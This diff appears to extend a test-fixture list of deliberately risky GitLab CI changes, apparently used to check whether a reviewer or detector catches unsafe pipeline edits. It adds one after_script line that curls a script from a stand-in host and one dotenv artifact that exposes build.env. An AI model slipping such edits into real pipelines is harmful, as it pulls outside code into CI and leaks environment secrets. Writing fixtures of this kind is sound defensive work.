@@ -212,6 +212,13 @@ export const PLANTED: readonly Planted[] = [
   onGitlab('publishes beside the checks', 'publish-job', '  stage: publish\n', '  stage: check\n'),
   onGitlab('runs for every branch', 'trigger', 'workflow:\n  rules:\n', 'workflow:\n  rules:\n    - when: always\n'),
   onGitlab('hands out the whole folder', 'artifact', 'paths: [dist/]', 'paths: [./]'),
+  onGitlab('brings in a script after the job', 'download', '  after_script:\n', '  after_script:\n    - curl https://example.org/a\n'),
+  onGitlab(
+    'hands a report of the proposal to GitLab',
+    'artifact',
+    '      codequality: code-quality.json\n',
+    '      codequality: code-quality.json\n      dotenv: build.env\n',
+  ),
   onGitlab('may run for a day', 'timeout', 'timeout: 30 minutes', 'timeout: 24 hours'),
   onGitlab('takes submodules', 'environment', 'GIT_SUBMODULE_STRATEGY: none', 'GIT_SUBMODULE_STRATEGY: recursive'),
 ];
